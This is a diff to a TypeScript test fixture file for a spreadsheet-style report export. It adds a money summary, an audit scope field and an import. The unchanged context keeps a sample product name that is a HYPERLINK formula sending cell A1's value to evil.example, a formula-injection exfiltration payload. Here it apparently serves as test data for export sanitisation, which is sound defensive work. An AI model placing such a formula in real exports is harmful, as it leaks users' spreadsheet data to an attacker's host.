@@ -3,7 +3,8 @@
  * starts, a HYPERLINK product name, a GS1 group separator, quotes, commas and line breaks),
  * negative differences, null percentages and cross-validation lines.
  */
-import type { CategoryCounts, ResultCategory, ResultItem, ResultsSummary } from '../../contracts/results.js';
+import type { Categories, CategoryCounts, ResultCategory, ResultItem, ResultsSummary } from '../../contracts/results.js';
+import { summariseMoney } from '../../domain/money-summary.js';
 import type { ReportAudit, ReportInput } from './report-input.js';
 
 export const HYPERLINK_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
@@ -183,6 +184,7 @@ export const SAMPLE_AUDIT: ReportAudit = {
   createdAt: new Date('2026-11-20T08:30:00Z'),
   completedAt: new Date('2026-11-21T17:45:00Z'),
   organizationName: 'Acme Hardware',
+  scope: 'Products whose category is "Paint" and that have the tag "seasonal"',
 };
 
 function countsOf(lines: Readonly<Record<ResultCategory, readonly ResultItem[]>>): CategoryCounts {
@@ -203,6 +205,7 @@ export function sampleReportInput(
     audit: { ...SAMPLE_AUDIT, ...overrides.audit },
     totalProductsInFilter: 12,
     summary: SAMPLE_SUMMARY,
+    money: summariseMoney(lines as Categories),
     counts: countsOf(lines),
     reads,
     async *lines(category) {
